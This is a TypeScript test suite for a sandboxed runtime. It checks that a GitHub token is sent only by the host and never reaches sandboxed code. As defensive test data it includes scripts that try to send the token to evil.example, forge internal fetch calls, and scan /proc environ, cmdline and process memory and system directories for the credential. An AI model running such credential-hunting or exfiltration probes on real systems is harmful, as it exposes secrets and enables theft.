import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import { describe, expect, it, onTestFinished } from "vitest";
import { systemClock } from "../../../src/base/clock.ts";
import { SkillsError } from "../../../src/base/errors.ts";
import { openSecretRequests } from "../../../src/runtime/runs/execute/secret-requests.ts";
import type { RunHost, SecretAnswer, SecretRequest } from "../../../src/runtime/sandbox.ts";
import { toSecretForms } from "../../../src/runtime/secrets/find-needles.ts";
import { openFetcher } from "../../../src/sources/fetch.ts";
import { openHostileServer, publicAddress } from "../../sources/hostile-server.ts";
import { testCertificate } from "../../sources/test-certificate.ts";
import { memoryOfChildren } from "./host-memory.ts";
import { codeRun, python, scriptRun } from "./runs.ts";
import type { Trial } from "./tier.ts";

const uses = ["GH_TOKEN@api.github.com"];
const url = "https://api.github.com/user?q=1";

/** A host that answers each request with `answer`, and what it was asked. */
function answering(answer: Partial<SecretAnswer> | Error): {
  fetch: NonNullable<RunHost["fetch"]>;
  asked: SecretRequest[];
} {
  const asked: SecretRequest[] = [];
  return {
    asked,
    fetch: (request) => {
      asked.push(request);
      if (answer instanceof Error) return Promise.reject(answer);
      return Promise.resolve({ status: 200, headers: {}, body: new Uint8Array(), ...answer });
    },
  };
}

/** Secrets that the host sends for a run: their values never enter. */
export function describeSecretUses(trial: Trial): void {
  describe("a secret that is only sent by the host", () => {
    it("is used by runtime.fetch, which returns status, headers and body", () => {
      const host = answering({ status: 201, headers: { "x-a": "1" }, body: Buffer.from('{"n":[1,"ä"]}') });
      const code = python`
        import runtime

        def main(args):
            answer = runtime.fetch(args["url"], "post", {"X-Mine": "2"}, b"\0\xff", secret="GH_TOKEN", timeout=2.5)
            again = runtime.fetch(args["url"], body={"n": 1}, method="PUT")
            return [answer.status, answer.ok, answer.headers, answer.text, answer.json(), again.status]
      `;
      return trial.run(
        codeRun(code, { uses, args: { url } }),
        ({ end }) => {
          expect(end).toMatchObject({
            type: "returned",
            value: [201, true, { "x-a": "1" }, '{"n":[1,"ä"]}', { n: [1, "ä"] }, 201],
          });
          expect(host.asked).toMatchObject([
            { url, method: "POST", headers: [["X-Mine", "2"]], secret: "GH_TOKEN", timeoutMs: 2500 },
            { url, method: "PUT", headers: [["content-type", "application/json"]], secret: "GH_TOKEN" },
          ]);
          expect(host.asked.map(({ body }) => Buffer.from(body).toString("latin1"))).toEqual(["\0\xff", '{"n": 1}']);
        },
        { answers: { fetch: host.fetch } },
      );
    });

    it("cannot be read, and the error names runtime.fetch", () => {
      const code = python`
        import os, runtime

        def main():
            try:
                runtime.secret("GH_TOKEN")
            except PermissionError as error:
                return [isinstance(error, runtime.SecretError), str(error), "GH_TOKEN" in os.environ]
      `;
      return trial.run(codeRun(code, { uses }), ({ end }) =>
        expect(end).toMatchObject({
          type: "returned",
          value: [
            true,
            "This code cannot read 'GH_TOKEN': its manifest does not say expose = true. " +
              'Make the request with runtime.fetch(url, secret="GH_TOKEN"), which sends the value to api.github.com only.',
            false,
          ],
        }),
      );
    });

    it("raises runtime.FetchError with the reason of the host", () => {
      const host = answering(new SkillsError("PERMISSION_DENIED", "GH_TOKEN is not sent to https://evil.example."));
      const code = python`
        import runtime

        def main():
            try:
                runtime.fetch("https://evil.example/", secret="GH_TOKEN")
            except runtime.FetchError as error:
                return [error.type, error.message]
      `;
      return trial.run(
        codeRun(code, { uses }),
        ({ end }) =>
          expect(end).toMatchObject({
            type: "returned",
            value: ["PERMISSION_DENIED", "GH_TOKEN is not sent to https://evil.example."],
          }),
        { answers: { fetch: host.fetch } },
      );
    });

    it("is not used for a run that declares none, also where it forges the request", () => {
      const code = python`
        import gc, runtime

        def main():
            said = []
            calls = [one for one in gc.get_objects() if type(one).__name__ == "Calls"]
            tries = [lambda: runtime.fetch("https://api.github.com/", secret="GH_TOKEN")]
            tries += [lambda: one.fetch({"url": "https://api.github.com/", "method": "GET", "headers": [], "secret": "GH_TOKEN"}, b"") for one in calls]
            for attempt in tries:
                try:
                    said.append(attempt().status)
                except runtime.FetchError as error:
                    said.append(error.type)
            return said
      `;
      return trial.run(codeRun(code), ({ end }) =>
        expect(end).toMatchObject({ type: "returned", value: ["PermissionError", "PermissionError"] }),
      );
    });

    it("is used by scripts in Python", () => {
      const host = answering({ body: Buffer.from("hello") });
      const script = `import runtime\nprint(runtime.fetch(${JSON.stringify(url)}).text)\n`;
      return trial.run(
        scriptRun("python", script, { uses }),
        ({ end, host: { stdout } }) => {
          expect(end).toEqual({ type: "exited", exitCode: 0 });
          expect(stdout).toBe("hello\n");
        },
        { answers: { fetch: host.fetch } },
      );
    });

    it.each([
      [
        "bash",
        `curl -sS -i -X PATCH -H "acp-skills-url: ${url}" -H "acp-skills-secret: GH_TOKEN" -H "X-Mine: 2" -d 'a=1' "$ACP_SKILLS_FETCH_URL"\nenv | grep -c -i proxy\ntrue`,
      ],
      [
        "node",
        `const headers = { "acp-skills-url": "${url}", "acp-skills-secret": "GH_TOKEN", "X-Mine": "2", "content-type": "application/x-www-form-urlencoded" };
         const answer = await fetch(process.env.ACP_SKILLS_FETCH_URL, { method: "PATCH", headers, body: "a=1" });
         console.log(answer.status, answer.headers.get("x-a"), await answer.text());`,
      ],
    ] as const)("is used by scripts in %s over a local endpoint", (language, script) => {
      const host = answering({
        status: 418,
        headers: { "x-a": "1", "content-length": "999" },
        body: Buffer.from("tea"),
      });
      return trial.run(
        scriptRun(language, script, { uses }),
        ({ end, host: { stdout, stderr } }) => {
          expect(stderr).toBe("");
          expect(end).toEqual({ type: "exited", exitCode: 0 });
          expect(stdout).toContain("418");
          expect(stdout).toContain("tea");
          expect(host.asked).toMatchObject([{ url, method: "PATCH", secret: "GH_TOKEN" }]);
          expect(Buffer.from(host.asked[0]!.body).toString()).toBe("a=1");
          const names = host.asked[0]!.headers.map(([name]) => name.toLowerCase());
          expect(names).toContain("x-mine");
          expect(names).toContain("content-type");
          for (const name of [
            "host",
            "connection",
            "content-length",
            "user-agent",
            "acp-skills-url",
            "accept-encoding",
          ])
            expect(names).not.toContain(name);
        },
        { answers: { fetch: host.fetch } },
      );
    });

    it("is used over the endpoint also by clients that have a proxy for an allowed network", () => {
      const host = answering({ body: Buffer.from("hello") });
      const script = [
        `curl -sS -H "acp-skills-url: ${url}" "$ACP_SKILLS_FETCH_URL"`,
        'echo "$http_proxy" | sed "s/:[0-9]*$//"',
        'curl -sS -o /dev/null -w "%{http_code}\\n" http://127.0.0.1:1/fetch',
      ].join("\necho\n");
      return trial.run(
        scriptRun("bash", script, { uses, network: ["https://example.org"] }),
        ({ host: { stdout } }) => {
          expect(stdout).toBe("hello\nhttp://127.0.0.1\n\n403\n");
          expect(host.asked).toHaveLength(1);
        },
        { answers: { fetch: host.fetch } },
      );
    });

    it("is in no environment, argument or file of a script that uses it", async () => {
      const value = `ghp_${randomBytes(18).toString("base64url")}`;
      const opened = await openEchoing(value);
      // Back to front, so that the script does not have what it searches for.
      const script = [
        'for path in /text /json /base64 /header; do curl -sS -i -H "acp-skills-url: $1$path" "$ACP_SKILLS_FETCH_URL"; echo; done > answers',
        'cat answers /proc/*/environ /proc/*/cmdline /tmp/* 2>/dev/null | tr "\\0" "\\n" | rev | grep -c -F "$2"',
        'env | rev | grep -c -F "$2"',
        'grep -c -F "***" answers',
        'rev < answers | grep -c -F "***"',
      ].join("\n");
      const argv = [opened.origin, Array.from(value).reverse().join("")];
      return trial.run(
        scriptRun("bash", script, { uses: [opened.use], argv }),
        ({ host: { stdout } }) => {
          expect(opened.received()).toHaveLength(opened.paths.length);
          expect(stdout).toMatch(/^0\n0\n([4-9])\n\1\n$/);
        },
        { answers: { fetch: opened.fetch } },
      );
    });

    it("says at the endpoint what is wrong, and does nothing else", () => {
      const host = answering(new SkillsError("PERMISSION_DENIED", "GH_TOKEN is not sent there."));
      const script = [
        'ask() { curl -s -o - -w " %{http_code} %header{acp-skills-error}\\n" "$@"; }',
        'ask "$ACP_SKILLS_FETCH_URL"',
        'ask -H "acp-skills-url: https://evil.example/" "$ACP_SKILLS_FETCH_URL"',
        'head -c 2000000 /dev/zero | ask -H "acp-skills-url: https://api.github.com/" --data-binary @- "$ACP_SKILLS_FETCH_URL"',
        'ask "${ACP_SKILLS_FETCH_URL%/fetch}/other"',
        'ask -x "${ACP_SKILLS_FETCH_URL%/fetch}" http://example.org/',
      ].join("\n");
      return trial.run(
        scriptRun("bash", script, { uses }),
        ({ host: { stdout } }) => {
          expect(stdout).toContain(
            "Send the headers acp-skills-url: https://host/path and acp-skills-secret: GH_TOKEN.\n 400",
          );
          expect(stdout).toContain("GH_TOKEN is not sent there.\n 403");
          expect(stdout).toContain("The body has more than 1048576 bytes.\n 400");
          expect(stdout).toContain("This is an HTTP proxy");
          expect(stdout).toContain("Refused by the sandbox");
          expect(host.asked).toHaveLength(1);
        },
        { answers: { fetch: host.fetch } },
      );
    });

    // Without a sandbox, code may read the memory of its host.
    it.skipIf(trial.tier.isolates === false)(
      "is never inside: not in the memory of any process, the environment, /proc or a file, while servers echo it",
      async () => {
        const value = `ghp_${randomBytes(18).toString("base64url")}`;
        const plain = `plain-${randomBytes(12).toString("hex")}`;
        const opened = await openEchoing(value);
        const cancel = new AbortController();
        const found = { value: [] as string[], plain: [] as string[], searched: 0 };
        const code = python`
        import gc, os, runtime, time

        def search(reversed_value):
            """Where the value is, as far as this code may look; it has the value only back to front."""
            found = []
            # The directory itself may not be listed.
            for one in ["self", *range(1, 100), os.getpid(), os.getppid()]:
                for name in ("environ", "cmdline", "maps", "mem"):
                    path = f"/proc/{one}/{name}"
                    try:
                        if name != "mem":
                            parts = [open(path, "rb").read()]
                        else:
                            parts = ranges(one, path)
                        for part in parts:
                            if part[::-1].find(reversed_value) >= 0:
                                found.append(path)
                    except OSError:
                        pass
            for top in ("/workspace", "/output", "/tmp", "/skills", "/blobs", "/inside", "/etc", "/dev/shm"):
                for directory, _, names in os.walk(top):
                    for name in names:
                        try:
                            if open(os.path.join(directory, name), "rb").read(1 << 20)[::-1].find(reversed_value) >= 0:
                                found.append(os.path.join(directory, name))
                        except OSError:
                            pass
            for one in gc.get_objects():
                for text in one.values() if isinstance(one, dict) else one if isinstance(one, (list, tuple)) else ():
                    if isinstance(text, (str, bytes)):
                        content = text.encode("utf-8", "replace") if isinstance(text, str) else text
                        if content[::-1].find(reversed_value) >= 0:
                            found.append("an object")
            return found

        def ranges(one, path):
            with open(f"/proc/{one}/maps") as maps, open(path, "rb", 0) as memory:
                for line in maps:
                    bounds, rights, *_ = line.split()
                    start, end = (int(bound, 16) for bound in bounds.split("-"))
                    if rights[0] == "r" and end - start < 1 << 26:
                        try:
                            memory.seek(start)
                            yield memory.read(end - start)
                        except (OSError, ValueError, OverflowError):
                            pass

        def main(args):
            kept = [runtime.secret("PLAIN")]
            for path in args["paths"]:
                answer = runtime.fetch(args["origin"] + path, secret="GH_TOKEN")
                kept += [answer, answer.text, str(answer.headers)]
            found = search(args["reversed"].encode())
            assert found == [], found
            assert any("***" in str(one) for one in kept)
            print("searched", flush=True)
            if args["waits"]:
                time.sleep(60)
            return len(kept)
      `;
        const args = {
          origin: opened.origin,
          paths: opened.paths,
          reversed: Array.from(value).reverse().join(""),
          waits: trial.tier.processes,
        };
        await trial.run(
          codeRun(code, { uses: [opened.use], secrets: { PLAIN: plain }, args, limits: { timeoutMs: 25_000 } }),
          ({ end, host }) => {
            if (end.type === "raised") throw new Error(JSON.stringify(end.error));
            expect(end).toMatchObject({ type: trial.tier.processes ? "cancelled" : "returned" });
            expect(host.stdout).toContain("searched");
            expect(opened.received()).toEqual(opened.paths.map(() => `Bearer ${value}`));
            expect(found.value).toEqual([]);
            // The search finds what is there: otherwise it would prove nothing.
            if (trial.tier.processes && process.getuid?.() === 0) expect(found.plain).not.toEqual([]);
          },
          {
            signal: cancel.signal,
            answers: {
              fetch: opened.fetch,
              print: (_stream, bytes) => {
                if (!trial.tier.processes || !Buffer.from(bytes).includes("searched")) return;
                for (const { name, bytes: memory } of memoryOfChildren()) {
                  found.searched += 1;
                  for (const form of toSecretForms(value))
                    if (form.length >= 8 && memory.includes(Buffer.from(form))) found.value.push(name);
                  if (memory.includes(plain)) found.plain.push(name);
                }
                cancel.abort();
              },
            },
          },
        );
      },
    );
  });
}

/** An https server that answers with the credentials that it gets, in several forms, and the host's way to it. */
async function openEchoing(value: string) {
  const server = await openHostileServer({ secure: true });
  const of = (headers: Readonly<Record<string, unknown>>): string => String(headers["authorization"]);
  const paths = ["/text", "/json", "/base64", "/header"];
  server.on("/text", (request, response) => void response.end(of(request.headers)));
  server.on("/json", (request, response) => void response.end(JSON.stringify(request.headers)));
  server.on("/base64", (request, response) => void response.end(Buffer.from(of(request.headers)).toString("base64")));
  server.on("/header", (request, response) => void response.writeHead(200, { "x-echo": of(request.headers) }).end());
  const host = `api.example.com:${server.port}`;
  const requests = openSecretRequests({
    secrets: [{ name: "GH_TOKEN", value, header: "authorization", scheme: "Bearer", hosts: [host] }],
    open: (typed) =>
      Promise.resolve(
        openFetcher({
          allowPrivate: [],
          typed,
          ownAddresses: () => [],
          certificateAuthority: testCertificate.cert,
          resolve: () => Promise.resolve([publicAddress]),
          connect: (_address, port) => connect({ host: "127.0.0.1", port }),
        }),
      ),
    clock: systemClock,
    deadline: systemClock.now() + 60_000,
    notify: () => undefined,
  });
  onTestFinished(() => requests.close());
  return {
    fetch: requests.fetch,
    origin: `https://${host}`,
    use: `GH_TOKEN@${host}`,
    paths,
    received: () => server.asked.map(({ headers }) => of(headers)),
  };
}
